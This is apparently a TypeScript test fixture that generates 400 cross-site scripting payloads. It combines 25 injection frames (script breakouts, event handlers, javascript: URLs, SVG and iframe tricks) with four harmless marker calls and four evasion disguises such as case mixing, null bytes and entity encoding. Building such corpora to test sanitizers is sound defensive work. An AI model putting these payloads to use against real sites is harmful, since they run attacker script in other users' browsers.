/** Ways to make a page run something; each sets a mark on the window. Built, so that every way meets every disguise. */
const CALLS = ['window.__ran=1', 'alert(1)', "self['__ran']=1", 'top.__ran=1'] as const

const FRAMES: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `"><script>${call}</script>`,
  (call) => `'><script>${call}</script>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `"><img src=x onerror='${call}'>`,
  (call) => `" onmouseover="${call}" autofocus onfocus="${call}" x="`,
  (call) => `' autofocus onfocus='${call}' x='`,
  (call) => `<svg onload="${call}">`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
  (call) => `<details open ontoggle="${call}">`,
  (call) => `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<a href="javascript:${call}" autofocus>x</a>`,
  (call) => `javascript:${call}`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  (call) => `<style>@import 'javascript:${call}';</style>`,
  (call) => `<math><mtext></form><img src=x onerror="${call}">`,
  (call) => `--><script>${call}</script>`,
] as const

const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace('<', '<\u0000'),
  (text) => text.replaceAll('script', 'ScRiPt').replaceAll('onerror', 'oNeRrOr'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('"', '&#34;'),
]

/** Four hundred payloads: every way, with every call, in every disguise. */
export const PAYLOADS: readonly string[] = FRAMES.flatMap((frame) =>
  CALLS.flatMap((call) => DISGUISES.map((disguise) => disguise(frame(call)))),
)
